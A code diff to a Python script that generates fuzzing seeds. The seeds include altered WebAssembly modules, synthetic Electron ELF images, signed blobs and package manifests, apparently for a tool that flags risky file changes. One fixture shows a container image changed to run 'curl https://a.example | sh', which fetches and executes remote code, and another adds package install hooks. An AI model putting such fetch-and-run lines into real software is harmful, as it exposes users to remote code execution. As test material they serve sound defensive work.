@@ -3,6 +3,7 @@
 
     seeds.py common FOLDER                  one container of each kind by its real maker, the hostile corpus
     seeds.py members FOLDER                 files that the tests of places and of twins change, for fuzz_member
+    seeds.py proofs FOLDER                  proofs of tests/ledger-suite with their files and trust files, for fuzz_verify
     seeds.py literals HEADS FOLDER TEST...  texts of unit tests; HEADS is two characters of which the first stands
                                             before a text, the second before a pair, or nothing
 
@@ -11,9 +12,11 @@ MOST_BYTES are left out, since a fuzzer gets slow with them.
 """
 
 import hashlib
+import json
 import os
 import plistlib
 import re
+import struct
 import subprocess
 import sys
 import tempfile
@@ -53,13 +56,13 @@ def common(folder):
 def member(path, old, new):
     """What fuzz_member takes."""
     parts = [x if isinstance(x, bytes) else str(x).encode("utf-8", "surrogateescape") for x in (path, old or "", new)]
-    return parts[0] + b"\n" + parts[1] + b"\xff" + parts[2]
+    return parts[0] + b"\n" + parts[1] + b"\n\xff\n" + parts[2]
 
 
-def signed(text):
+def signed(text, who="Sample"):
     """By a key that is made for it and kept nowhere."""
     with tempfile.TemporaryDirectory() as work:
-        run = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=Sample/O=Sample", "-keyout", "key", "-out", "cert"]
+        run = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=%s/O=%s" % (who, who), "-keyout", "key", "-out", "cert"]
         subprocess.run(run, cwd=work, check=True, stderr=subprocess.DEVNULL)
         with open(os.path.join(work, "text"), "w", encoding="ascii") as f:
             f.write(text)
@@ -76,11 +79,21 @@ def word(text):
     return bytes([len(text)]) + text
 
 
-def wasm(call):
-    """One import, one export, one piece of data."""
-    return b"\0asm\1\0\0\0" + section(1, b"\1\x60\0\0") + section(2, b"\1", word(b"env"), word(call), b"\0\0") + section(
+def wasm(*calls, more=b""):
+    """Imports of each kind, an export, a piece of data."""
+    what = [b"\0\0"] * len(calls) + [b"\1\x70\1\1\2", b"\2\0\1", b"\3\x7f\0", b"\4\0\0"]
+    imports = [word(b"env") + word(name) + kind for name, kind in zip(calls + (b"table", b"memory", b"global", b"tag"), what)]
+    return b"\0asm\1\0\0\0" + section(1, b"\1\x60\0\0") + section(2, bytes([len(imports)]), *imports) + section(
         3, b"\1\0") + section(7, b"\1", word(b"run"), b"\0\1") + section(10, b"\1\4\0\x10\0\x0b") + section(
-            11, b"\1\0\x41\0\x0b", word(b"https://a.example/x"))
+            11, b"\1\0\x41\0\x0b", word(b"https://a.example/x")) + section(0, word(b"name"), b"\0\2\1a") + more
+
+
+def electron(states, wires=1):
+    """A program with the fuses of Electron; no other byte 0xff."""
+    wire = b"dL7pKGdnNz796PbbjQWNKmHXBZaB9tsX" + bytes([1, len(states)]) + states
+    image = b"\0" * 56 + wire * wires
+    return struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\2\1\1", 2, 62, 1, 0, 64, 0, 0, 64, 56, 1, 0, 0, 0) + struct.pack(
+        "<IIQQQQQQ", 1, 5, 0, 0, 0, 120 + len(image), 120 + len(image), 4096) + image
 
 
 def beside():
@@ -94,8 +107,16 @@ def beside():
                                                           fmt=plistlib.FMT_BINARY)
     yield "x.tar!/[image]", image % (("nginx",) * 5), image % (("curl https://a.example | sh",) * 5)
     yield "x.pkg!/PackageInfo", package % (1, ""), package % (2, "<preinstall file=\"./preinstall\"/><postinstall file=\"./run\"/>")
-    yield "lib/x.wasm", wasm(b"log"), wasm(b"fd_write")
+    yield "lib/x.wasm", wasm(b"log"), wasm(b"log", b"fd_write")
+    yield "lib/x.wasm", "", wasm(b"log", more=b"\x7fbehind")
+    yield "lib/x.wasm", wasm(b"log"), wasm(b"log", more=section(2, b"\1", word(b"env"), word(b"x"), b"\7"))
+    yield "lib/x.wasm", wasm(b"log"), wasm(b"log", more=section(7, b"\2", word(b"run"), b"\0\x80\x80\x80\x80\x80\x80"))
+    yield "lib/x.wasm", wasm(b"log"), wasm(b"log", more=b"\3\x70")
+    yield "electron", electron(b"01001100", 2), electron(b"10110r11", 2)
+    yield "electron", electron(b"0100110"), electron(b"0100110000")
     yield "x.p7s", "", signed("one")
+    yield "x.p7s", signed("one"), signed("two", "Another")
+    yield "x.p7s", signed("one"), signed("one")
 
 
 def members(folder):
@@ -110,6 +131,18 @@ def members(folder):
         for path, text in row.new.items():
             if row.old.get(path) != text:
                 keep(folder, member(path, row.old.get(path), text))
+
+
+def proofs(folder):
+    """One of each group and answer, around bytes 0xff as fuzz_verify takes them."""
+    said = set()
+    suite = os.path.join(TESTS, "ledger-suite")
+    for name in sorted(n for n in os.listdir(suite) if n.endswith(".jsonl")):
+        with open(os.path.join(suite, name), encoding="utf-8") as f:
+            for case in map(json.loads, f):
+                if (case["group"], case["expect"]) not in said:
+                    said.add((case["group"], case["expect"]))
+                    keep(folder, b"\xff".join(case[part].encode() for part in ("proof", "file", "trust")))
 
 
 def c_literals(source):
@@ -146,10 +179,11 @@ def literals(heads, folder, *tests):
 
 
 def main(argv):
-    if len(argv) < 3 or argv[1] not in ("common", "members", "literals"):
+    modes = {"common": common, "members": members, "proofs": proofs, "literals": literals}
+    if len(argv) < 3 or argv[1] not in modes:
         sys.exit(__doc__)
     os.makedirs(argv[3 if argv[1] == "literals" else 2], exist_ok=True)
-    {"common": common, "members": members, "literals": literals}[argv[1]](*argv[2:])
+    modes[argv[1]](*argv[2:])
 
 
 if __name__ == "__main__":
